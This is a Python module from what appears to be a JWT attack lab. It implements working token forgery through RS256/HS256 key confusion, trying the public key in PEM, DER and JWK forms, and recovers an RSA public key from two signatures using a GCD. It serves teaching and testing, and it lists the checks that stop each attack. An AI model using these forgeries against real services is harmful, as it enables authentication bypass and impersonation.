"""Key confusion: a public key taken for an HMAC secret, and public keys that nobody published.

Everything weak in here is weak on purpose.
"""

from __future__ import annotations

import hashlib
import importlib
import json
import math
from collections.abc import Mapping
from functools import partial
from typing import Any

from cryptography.hazmat.primitives import serialization

from jwtlab.attacks import material, pyjwt
from jwtlab.attacks.model import Attack, Stage, Variant
from jwtlab.attacks.signature import header_chooses_hmac
from jwtlab.checks import Policy
from jwtlab.errors import UsageError
from jwtlab.jose import base64url
from jwtlab.jose.key import Key
from jwtlab.jose.token import decode

Goal = Mapping[str, Any]

STOPPED_BY = ("algorithm-allowed", "key-type", "key-alg", "signature-valid")
CODE = (
    'alg = jwt.get_unverified_header(token)["alg"]\n'
    "claims = jwt.decode(token, PUBLIC_KEY, algorithms=[alg])   # the token chooses"
)
FORMS = {
    "pem": "PEM as it stands in the file, with its last newline",
    "pem-no-newline": "PEM without the last newline, as .strip() leaves it",
    "pem-crlf": "PEM with the line ends of Windows",
    "der": "DER, the bytes inside the PEM",
    "jwk": "the JWK as JSON text",
}
"""The forms in which a public key may lie on a server's disk: each makes other bytes, so another secret."""


def key_forms(key: Key) -> dict[str, bytes]:
    """A public key in each of `FORMS`."""
    public = key.public()
    pem = public.to_pem()
    der: bytes = public.public_crypto.public_bytes(
        serialization.Encoding.DER, serialization.PublicFormat.SubjectPublicKeyInfo
    )
    return {
        "pem": pem,
        "pem-no-newline": pem.strip(),
        "pem-crlf": pem.replace(b"\n", b"\r\n"),
        "der": der,
        "jwk": json.dumps(public.to_jwk()).encode(),
    }


def forge_confusion(goal: Goal, *, original: str, public_key: bytes) -> str:
    """HS256 over other claims, with the exact bytes of the public key as the secret."""
    text = material.signing_input(original, goal, alg="HS256")
    return material.seal(text, material.hs256(public_key, text))


def _victim(public_key: bytes) -> Policy:
    return material.weak_signature(
        "verify(token, key), and the header says how",
        lambda case: header_chooses_hmac(case, public_key),
        "algorithm-allowed",
        "key-type",
        "key-alg",
    )


def _stage(form: str, goal: Goal) -> Stage:
    good, octets = material.token("RS256"), key_forms(material.key("RS256"))[form]
    verifier = material.verifier(material.key("RS256"), algorithms=("RS256",))
    note = f"The secret is these {len(octets)} bytes, no more and no less: {FORMS[form]}."
    knowledge = {"original": good, "public_key": octets}
    return Stage(good, knowledge, verifier, _victim(octets), notes=(note,))


CONFUSION = Attack(
    id="key-confusion",
    title="The public key as a shared secret",
    knows="the public key, in the form in which the service keeps it",
    story="Mallory signs with HS256 and takes the service's public RSA key as the secret: everybody has it. "
    "The service passes that same key to verify(), and the header decides that it is a secret now.",
    spec="RFC 8725 §2.1, §3.1",
    cves=(
        "CVE-2015-9235",
        "CVE-2016-10555",
        "CVE-2017-11424",
        "CVE-2022-29217",
        "CVE-2024-33663",
        "CVE-2024-37568",
        "CVE-2026-48526",
    ),
    forge=forge_confusion,
    variants=tuple(
        Variant(name=form, title=title, stage=partial(_stage, form), stopped_by=STOPPED_BY)
        for form, title in FORMS.items()
    ),
    code=CODE,
    pyjwt=pyjwt.header_chooses,
)


# key-confusion-recovered

_DIGEST_INFO = bytes.fromhex("3031300d060960864801650304020105000420")  # SHA-256, RFC 8017 §9.2 note 1
PLAIN_EXPONENTS = 257
"""Up to this exponent Python's own numbers are quick enough; beyond it gmpy2 is asked for."""


def recover_modulus(first: str, second: str, *, exponent: int = 3) -> int:
    """The RSA modulus behind two RS256 tokens of one issuer.

    A signature s of a padded hash m has sᵉ ≡ m (mod n), so n divides sᵉ - m. It does so for both
    tokens: n is their greatest common divisor, give or take a small factor.

    Args:
        first, second: two different tokens that the same key signed.
        exponent: the public exponent, 3 or nearly always 65537. With 65537 and 2048 bits the two
            numbers have 134 million bits each: with gmpy2 that takes about a minute, without it
            a day and more, so it is refused.

    Raises:
        UsageError: no modulus comes out; or the exponent needs gmpy2 and it is not installed.
    """
    number = _numbers(exponent)
    differences = []
    for token in (first, second):
        parts = decode(token)
        padded = int.from_bytes(padded_hash(parts.signing_input, len(parts.signature)))
        signature = number(int.from_bytes(parts.signature))
        differences.append(signature**exponent - padded)
    modulus = int(_gcd(*differences))
    size = len(decode(first).signature) * 8
    for small in range(2, 1000):
        while modulus.bit_length() > size - 7 and modulus % small == 0:
            modulus //= small
    if not size - 7 <= modulus.bit_length() <= size:
        raise UsageError("no modulus comes out: were both tokens signed with RS256 by the same key?")
    return modulus


def _numbers(exponent: int) -> Any:
    if exponent <= PLAIN_EXPONENTS:
        return int
    try:
        return importlib.import_module("gmpy2").mpz
    except ModuleNotFoundError:
        raise UsageError(
            f"with the exponent {exponent} the numbers have millions of digits; pip install gmpy2 reckons "
            "with them in about a minute. Or use a key with the exponent 3"
        ) from None


def _gcd(one: Any, other: Any) -> Any:
    return math.gcd(one, other) if isinstance(one, int) else importlib.import_module("gmpy2").gcd(one, other)


def padded_hash(data: bytes, size: int) -> bytes:
    """The block that RSASSA-PKCS1-v1_5 signs (RFC 8017 §9.2)."""
    info = _DIGEST_INFO + hashlib.sha256(data).digest()
    return b"\x00\x01" + b"\xff" * (size - len(info) - 3) + b"\x00" + info


def recovered_pem(first: str, second: str, *, exponent: int = 3) -> bytes:
    """The public key behind two tokens, as the PEM that most servers keep."""
    numbers = {"n": recover_modulus(first, second, exponent=exponent), "e": exponent}
    octets = {name: value.to_bytes((value.bit_length() + 7) // 8) for name, value in numbers.items()}
    jwk = {name: base64url.encode(value) for name, value in octets.items()}
    return Key.from_jwk({"kty": "RSA", **jwk}).to_pem()


def forge_recovered(goal: Goal, *, first: str, second: str, exponent: int = 3) -> str:
    """Compute the public key out of two tokens, then go on as in `forge_confusion`."""
    pem = recovered_pem(first, second, exponent=exponent)
    return forge_confusion(goal, original=first, public_key=pem)


def _stage_recovered(goal: Goal) -> Stage:
    key = material.special_key("exponent-3")
    first = material.token("RS256", signer=key)
    second = material.token("RS256", signer=key, jti="demo-2", iat=material.NOW - 60)
    knowledge = {"first": first, "second": second, "exponent": key.exponent}
    return Stage(
        first, knowledge, material.verifier(key, algorithms=("RS256",)), _victim(key.public().to_pem()), notes=(
            "This issuer's key has the exponent 3, so the sum takes a moment; with 65537 it takes a minute.",
        )
    )  # fmt: skip


def _ask_recovered(scenario: Any) -> Any:
    pem = recovered_pem(scenario.knowledge["first"], scenario.knowledge["second"])
    return pyjwt.ask(scenario, pem, algorithms=["HS256"])


RECOVERED = Attack(
    id="key-confusion-recovered",
    title="A public key that was never published, computed from two tokens",
    knows="two RS256 tokens, nothing else",
    story="The issuer keeps its public key to itself, so Mallory takes two of its tokens and computes it: "
    "the greatest common divisor of sᵉ - m for both is the modulus. From there on it is key confusion; "
    "a public key is no secret, published or not.",
    spec="RFC 8725 §2.1, §3.1",
    cves=("CVE-2015-9235", "CVE-2017-11424"),
    forge=forge_recovered,
    variants=(
        Variant(
            name="gcd", title="two signatures, exponent 3", stage=_stage_recovered, stopped_by=STOPPED_BY
        ),
    ),
    code=CODE,
    pyjwt=_ask_recovered,
)
